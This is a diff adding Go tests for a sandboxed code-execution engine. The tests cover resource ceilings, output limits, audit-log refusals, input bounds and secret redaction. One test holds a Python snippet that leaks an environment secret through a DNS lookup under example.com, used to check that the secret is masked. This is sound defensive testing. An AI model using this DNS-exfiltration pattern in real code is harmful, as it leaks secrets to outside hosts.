@@ -1,0 +1,161 @@
+package engine
+
+import (
+	"context"
+	"encoding/json"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"brig/agent/audit"
+	"brig/agent/policy"
+	"brig/nsjail"
+)
+
+// What every jail begins with is a ceiling: a request may ask for less.
+func TestBaseIsACeiling(t *testing.T) {
+	hour, second := nsjail.Duration(time.Hour), nsjail.Duration(time.Second)
+	for name, c := range map[string]struct {
+		base nsjail.Limits
+		r    Request
+		wall nsjail.Duration
+		mem  nsjail.Bytes
+		cpus float64
+	}{
+		"defaults":       {nsjail.Limits{}, Request{}, DefaultTimeout, 32 << 20, 0},
+		"asked":          {nsjail.Limits{}, Request{Timeout: hour, Memory: 1 << 30, CPUs: 2}, hour, 1 << 30, 2},
+		"base":           {nsjail.Limits{Wall: second, Memory: 64 << 20, CPUs: 0.5}, Request{}, second, 64 << 20, 0.5},
+		"more than base": {nsjail.Limits{Wall: second, Memory: 64 << 20, CPUs: 0.5}, Request{Timeout: hour, Memory: 1 << 30, CPUs: 2}, second, 64 << 20, 0.5},
+		"less than base": {nsjail.Limits{Wall: hour, Memory: 64 << 20, CPUs: 1}, Request{Timeout: second, Memory: 1 << 20, CPUs: 0.1}, second, 1 << 20, 0.1},
+		"no wall":        {nsjail.Limits{Wall: -1}, Request{}, 2 * hour, 32 << 20, 0},
+		"for ever":       {nsjail.Limits{}, Request{Timeout: 1e9 * second}, 2 * hour, 32 << 20, 0},
+	} {
+		e := &Engine{opts: Options{Base: nsjail.Spec{Limits: c.base}, Timeout: DefaultTimeout, MaxTimeout: 2 * hour, Memory: 32 << 20}}
+		c.r.Cmd = []string{"id"}
+		j, no := e.job(Caller{}, &c.r)
+		if no != nil {
+			t.Fatal(no)
+		}
+		e.fill(j, &c.r)
+		if l := j.Spec.Limits; l.Wall != c.wall || l.Memory != c.mem || l.CPUs != c.cpus || l.OutputLimit != DefaultOutputLimit {
+			t.Errorf("%s: %v %v %v", name, l.Wall, l.Memory, l.CPUs)
+		}
+		if said := len(j.Verdict.Narrowed) > 0; said != (c.wall == 2*hour) {
+			t.Errorf("%s: %q", name, j.Verdict.Narrowed)
+		}
+	}
+}
+
+// A limit of output holds for a stream, too.
+func TestStreamIsBounded(t *testing.T) {
+	e := newEngine(t, Options{Policies: []*policy.Policy{parsed(t, `{"open":true,"limits":{"output":"1k"}}`)}})
+	got := 0
+	a := e.Run(context.Background(), Caller{}, &Request{Cmd: []string{"/bin/sh", "-c", "head -c 100000 /dev/zero | tr '\\0' 'x'"}}, func(v Event) { got += len(v.Data) })
+	if got > 1024 || a.Truncated == nil || int64(got)+a.Truncated.Stdout != 100000 {
+		t.Errorf("%d bytes came, %+v", got, a.Truncated)
+	}
+}
+
+// A run that does not happen changes nothing in its sandbox.
+func TestRefusedRunsPutNothing(t *testing.T) {
+	log, err := audit.Open(audit.Options{Path: filepath.Join(t.TempDir(), "audit")})
+	if err != nil {
+		t.Fatal(err)
+	}
+	e := newEngine(t, Options{Audit: log})
+	ctx := context.Background()
+	box, err := e.CreateSandbox(ctx, Caller{}, &SandboxRequest{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	r := Request{Cmd: []string{"cat", "/input/f"}, Sandbox: box.ID, Files: map[string]File{"f": {Data: []byte("here")}}}
+	if a := e.Run(ctx, Caller{}, &r, nil); a.Stdout != "here" {
+		t.Errorf("%+v %+v", a, a.Error)
+	}
+	if err := log.Close(); err != nil {
+		t.Fatal(err)
+	}
+	r.Files = map[string]File{"g": {Data: []byte("there")}}
+	if a := e.Run(ctx, Caller{}, &r, nil); a.Error == nil || a.Error.Layer != "audit" {
+		t.Errorf("%+v %+v", a, a.Error)
+	}
+	if _, _, err := e.GetFile(Caller{}, box.ID, "/input/g"); err == nil {
+		t.Error("the file of a refused run is there")
+	}
+}
+
+// A policy's bounds of what comes in hold for sandboxes, too.
+func TestInputsBoundSandboxes(t *testing.T) {
+	e := newEngine(t, Options{Policies: []*policy.Policy{parsed(t, `{"open":true,"inputs":{"file_bytes":10}}`)}})
+	ctx := context.Background()
+	if _, err := e.CreateSandbox(ctx, Caller{}, &SandboxRequest{Files: map[string]File{"f": {Data: make([]byte, 11)}}}); err == nil {
+		t.Error("a sandbox was made with a file of 11 bytes")
+	}
+	box, err := e.CreateSandbox(ctx, Caller{}, &SandboxRequest{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for n, want := range map[int]bool{10: true, 11: false} {
+		if _, err := e.PutFile(Caller{}, box.ID, "f", strings.NewReader(strings.Repeat("x", n)), 0); (err == nil) != want {
+			t.Errorf("a file of %d bytes: %v", n, err)
+		}
+	}
+}
+
+// A secret is not to be read where the payload or the caller has brought it besides its output.
+func TestSecretsElsewhere(t *testing.T) {
+	dir := t.TempDir()
+	log, err := audit.Open(audit.Options{Path: filepath.Join(dir, "audit")})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer log.Close()
+	e := newEngine(t, Options{Audit: log})
+	secrets := map[string]string{"B": "hunter22"}
+	for name, r := range map[string]Request{
+		"command": {Cmd: []string{"/no/hunter22"}},
+		"network": {Language: "python", Network: []string{"example.org:443"},
+			Code: "import os, socket\ntry: socket.getaddrinfo(os.environ['B'] + '.example.com', 443)\nexcept OSError as e: print(e)\n"},
+	} {
+		r.Secrets = secrets
+		a := e.Run(context.Background(), Caller{}, &r, nil)
+		text, err := json.Marshal(a)
+		if err != nil || strings.Contains(string(text), "hunter22") {
+			t.Errorf("%s: %v %s", name, err, text)
+		}
+		if name == "network" && !strings.Contains(string(a.Network), "***.example.com") {
+			t.Errorf("the look-up is not in the summary: %s", a.Network)
+		}
+	}
+	for kind, list := range lines(t, filepath.Join(dir, "audit")) {
+		text, err := json.Marshal(list)
+		if err != nil || strings.Contains(string(text), "hunter22") {
+			t.Errorf("%s: %v %s", kind, err, text)
+		}
+	}
+	for name, value := range map[string]string{"short": "abc", "long": strings.Repeat("x", 16<<10+1), "nul": "hunter22\x00"} {
+		a := e.Run(context.Background(), Caller{}, &Request{Cmd: []string{"true"}, Secrets: map[string]string{"B": value}}, nil)
+		if a.Error == nil || strings.Contains(a.Error.Message, "hunter22") {
+			t.Errorf("%s: %+v %+v", name, a, a.Error)
+		}
+	}
+}
+
+// Who cannot resolve a name without a network is told that there is none, as a guess, and nobody else is.
+func TestHints(t *testing.T) {
+	e := newEngine(t, Options{})
+	const fails = "echo 'socket.gaierror: [Errno -3] Temporary failure in name resolution' >&2; exit 1"
+	for script, want := range map[string]bool{fails: true, "head -c 100000 /dev/zero >&2; " + fails: true, fails + "\n": true, strings.Replace(fails, "exit 1", "exit 0", 1): false, "exit 1": false,
+		strings.Replace(fails, ">&2", "", 1): false} {
+		for _, stream := range []func(Event){nil, func(Event) {}} {
+			a := e.Run(context.Background(), Caller{}, &Request{Cmd: []string{"sh", "-c", script}}, stream)
+			if (len(a.Hints) == 1) != want {
+				t.Errorf("%.60s: %+v", script, a.Hints)
+			}
+		}
+	}
+	if a := e.Run(context.Background(), Caller{}, &Request{Cmd: []string{"sh", "-c", fails}, Network: []string{"example.org:443"}}, nil); len(a.Hints) > 0 {
+		t.Errorf("with a network: %+v", a.Hints)
+	}
+}
